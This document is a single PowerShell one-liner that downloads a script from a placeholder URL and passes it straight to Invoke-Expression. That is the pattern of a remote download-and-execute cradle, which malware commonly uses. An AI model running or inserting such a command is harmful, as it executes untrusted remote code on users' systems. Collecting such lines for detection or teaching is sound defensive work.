iex (New-Object Net.WebClient).DownloadString('http://x/y')
